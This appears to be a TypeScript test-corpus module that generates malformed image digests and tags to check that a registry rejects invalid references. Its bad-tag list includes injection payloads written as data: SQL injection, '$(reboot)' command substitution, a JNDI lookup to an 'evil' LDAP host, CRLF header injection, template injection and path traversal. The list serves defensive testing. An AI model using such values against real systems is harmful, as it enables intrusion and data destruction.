import type { SeededRandom } from '../../support/seeded-random.ts';
import { toByteString } from '../raw-request.ts';
import type { SeededContent } from '../seeded-content.ts';

const TAG_FORM = /^[a-zA-Z0-9_][a-zA-Z0-9._-]{0,127}$/;
const DIGEST_FORM = /^(sha256:[0-9a-f]{64}|sha512:[0-9a-f]{128})$/;

export function isTag(text: string): boolean {
  return TAG_FORM.test(text);
}

export function isDigest(text: string): boolean {
  return DIGEST_FORM.test(text);
}

const ALGORITHMS = [
  ...[
    'sha1',
    'md5',
    'sha224',
    'sha384',
    'sha3-256',
    'blake3',
    'blake2b',
    'crc32',
    'SHA256',
    'Sha256',
    'sha-256',
    'sha_256',
  ],
  ...[
    'sha256+b64u',
    'sha256+',
    '+sha256',
    'sha256.',
    'multihash+base58',
    'sha2',
    'sha25',
    'sha2566',
    'sha512/256',
    'sha512-256',
  ],
  ...[
    '',
    ' ',
    'sha256 ',
    ' sha256',
    'tarsum',
    'tarsum.v1+sha256',
    'none',
    'null',
    'undefined',
    '__proto__',
    'constructor',
  ],
  ...[
    'toString',
    'sha256\0',
    'sha\u0000256',
    'ｓha256',
    'ѕha256',
    'sha２56',
    'sha256:sha256',
    'sha256@',
    'SHA512',
    'sha1024',
  ],
  ...[
    '../sha256',
    'sha256/..',
    'x'.repeat(300),
    'sha256%20',
    '%73ha256',
    "sha256'",
    'sha256;x',
    'sha256,sha512',
    '0',
    '-1',
    '1e3',
  ],
];

const LENGTHS = [0, 1, 2, 31, 32, 40, 56, 63, 65, 66, 96, 127, 129, 256, 1_000];
const BAD_DIGITS = [
  'g',
  'G',
  'z',
  ' ',
  '-',
  '.',
  '_',
  '/',
  '\\',
  '%',
  '+',
  ':',
  '@',
  '\0',
  '\n',
  '\r',
  '\t',
  'é',
  '０',
  'Ａ',
  "'",
  '"',
  '?',
  '#',
];

/** Algorithms that are none of this registry. */
export function listAlgorithms(): readonly string[] {
  return ALGORITHMS.map(toByteString);
}

/** Digests that are none, made from one that is there: one character for each byte. */
function listBadDigests({ blob, wideBlob }: SeededContent, random: SeededRandom): readonly string[] {
  const hex = blob.digest.slice('sha256:'.length);
  const wide = wideBlob.digest.slice('sha512:'.length);
  const withBadDigit = BAD_DIGITS.flatMap((digit) =>
    [0, 1, 31, 63].map((at) => `sha256:${hex.slice(0, at)}${toByteString(digit)}${hex.slice(at + 1)}`),
  );
  const wideWithBadDigit = BAD_DIGITS.map(
    (digit) => `sha512:${wide.slice(0, 100)}${toByteString(digit)}${wide.slice(101)}`,
  );
  const oneUpperCase = Array.from(hex).flatMap((digit, at) =>
    /[a-f]/.test(digit) ? [`sha256:${hex.slice(0, at)}${digit.toUpperCase()}${hex.slice(at + 1)}`] : [],
  );
  const flipped = Array.from({ length: 60 }, () => {
    const bytes = Buffer.from(blob.digest, 'latin1');
    const at = random.below(bytes.length);
    bytes[at] = (bytes[at] ?? 0) ^ (1 << (5 + random.below(3)));
    return bytes.toString('latin1');
  });
  return [
    ...listAlgorithms().flatMap((algorithm) => [`${algorithm}:${hex}`, `${algorithm}:${wide}`]),
    ...LENGTHS.flatMap((length) => ['sha256', 'sha512'].map((name) => `${name}:${'a'.repeat(length)}`)),
    ...[
      `sha256:${wide}`,
      `sha512:${hex}`,
      `sha256:${hex.toUpperCase()}`,
      `SHA256:${hex.toUpperCase()}`,
      `sha512:${wide.toUpperCase()}`,
    ],
    ...[
      `sha256:${hex}${hex}`,
      `sha256:0x${hex.slice(2)}`,
      `sha256::${hex}`,
      `:${hex}`,
      `${hex}:sha256`,
      'sha256:',
      ':',
      '::',
    ],
    ...[
      `sha256:${hex}:`,
      `sha256:${hex}:${hex}`,
      `${blob.digest},${blob.digest}`,
      `@${blob.digest}`,
      `latest@${blob.digest}`,
    ],
    ...[
      `sha256:${hex}\0`,
      `${blob.digest} `,
      ` ${blob.digest}`,
      `"${blob.digest}"`,
      `${blob.digest};x`,
      `${blob.digest}.json`,
    ],
    ...[
      'sha256:baddigeststring',
      `sha256:${'../'.repeat(21)}x`,
      `sha256:..%2f..%2f${hex.slice(10)}`,
      `sha256:${hex.slice(0, 62)}%61`,
    ],
    ...withBadDigit,
    ...wideWithBadDigit,
    ...oneUpperCase,
    ...flipped,
  ].filter((text) => !isDigest(text));
}

const BAD_TAGS = [
  ...[
    '.',
    '..',
    '...',
    '.latest',
    '-latest',
    '-',
    '--',
    '.-',
    'la test',
    ' latest',
    'latest ',
    'lat\test',
    'latest\n',
    'latest\r\n',
  ],
  ...[
    'latest\0',
    '\0',
    'lat\x01est',
    'lat\x1b[31mest',
    'lat\x7fest',
    'latest/',
    'la/test',
    'latest@x',
    'latest+build',
    '1.0+meta',
  ],
  ...[
    'latest~',
    'latest!',
    'latest*',
    '*',
    'late?st',
    '?',
    'latest#',
    '#',
    'latest$',
    'latest%',
    '%',
    '%%',
    '%l',
    'latest&x',
    'a=b',
  ],
  ...[
    '(latest)',
    '[latest]',
    '{latest}',
    '<latest>',
    'latest|',
    'latest\\',
    '\\',
    'latest^',
    '`latest`',
    "'latest'",
    '"latest"',
    'a,b',
  ],
  ...[
    'a;b',
    "' or '1'='1",
    "'; drop table tags; --",
    '$(reboot)',
    '\x24{jndi:ldap://evil}',
    '{{7*7}}',
    '../latest',
    '..\\latest',
  ],
  ...[
    '%2e%2e%2flatest',
    '..%2flatest',
    '%00',
    'latest%00',
    '%0d%0aX-Injected:%201',
    'latest%0a',
    '%6catest',
    'l%61test',
    '%25',
  ],
  ...[
    '%252e%252e',
    'latest%20',
    '+',
    '+latest',
    '=cmd',
    '@latest',
    '~',
    '!',
    '&',
    '=',
    ',',
    ';',
    '"',
    "'",
    '<script>',
    'a<b',
  ],
  ...[
    'látest',
    'ｌatest',
    'latеst',
    'latest\u200b',
    'la\u00adtest',
    '\ufefflatest',
    '\u202elatest',
    'latest\u0301',
    'ſeed',
    '名前',
    '💣',
    'ß',
    '\u2028',
    '\u0085',
  ],
];

const TAG_LENGTHS = [129, 130, 200, 255, 256, 257, 500, 1_000, 1_800, 4_000];

function listBadTags(random: SeededRandom): readonly string[] {
  const everyByte = Array.from({ length: 256 }, (_, byte) => String.fromCharCode(byte));
  const random64 = Array.from({ length: 120 }, () => random.bytes(1 + random.below(40)).toString('latin1'));
  return [
    ...BAD_TAGS.map(toByteString),
    ...TAG_LENGTHS.flatMap((length) =>
      ['a', 'A', '_', '.', '-', '%61', '../'].map((text) => text.repeat(Math.ceil(length / text.length))),
    ),
    ...everyByte,
    ...everyByte.flatMap((byte) => [`v1${byte}`, `${byte}v1`, `v${byte}1`]),
    ...random64,
  ].filter((text) => text !== '' && !isTag(text));
}

export interface ReferenceCorpus {
  readonly tags: readonly string[];
  readonly digests: readonly string[];
}

/** References that are none, none twice: one character for each byte. */
export function createReferenceCorpus(content: SeededContent, random: SeededRandom): ReferenceCorpus {
  const digests = [...new Set(listBadDigests(content, random))];
  const known = new Set(digests);
  return { digests, tags: [...new Set(listBadTags(random))].filter((tag) => !known.has(tag)) };
}
